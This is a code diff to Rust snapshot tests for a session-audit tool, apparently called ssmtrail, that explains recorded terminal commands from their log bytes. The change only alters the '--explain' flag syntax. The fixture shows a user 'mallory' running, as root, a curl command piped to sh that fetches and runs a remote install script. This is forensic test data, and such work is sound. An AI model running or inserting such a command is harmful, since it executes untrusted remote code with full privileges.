@@ -29,7 +29,7 @@ fn a_session_is_shown_as_a_person_saw_it() {
 #[test]
 fn a_command_is_explained_by_its_evidence_and_its_bytes() {
     let world = World::with_demo();
-    world.run("show mallory --explain 3").is(expect![[r#"
+    world.run("show mallory --explain=3").is(expect![[r#"
         ≤ 2026-11-20 03:12:45Z  mallory (by its session id) on i-0b1d8de9e3b8f40ca  mallory-0c0ffee0c0ffee001
             3  root       curl -s http://198.51.100.7/install.sh | sh
                prompt "[root@ip-10-0-3-7 ~]# ", line 4, bytes 331 to 412 of logs/mallory-0c0ffee0c0ffee001.log
@@ -42,7 +42,7 @@ fn a_command_is_explained_by_its_evidence_and_its_bytes() {
                | [root@ip-10-0-3-7 ~]# curl -s http://198.51.100.7/install.sj\x08\x1b[Kh | sh\x0d\x0d
                | \x1b[?2004l
     "#]]);
-    world.run("show mallory --explain 70").is(expect![[r#"
+    world.run("show mallory --explain=70").is(expect![[r#"
         ! ssmtrail: the session has no command 70
         ! hint: its commands are 1 to 7
         [exit 2]
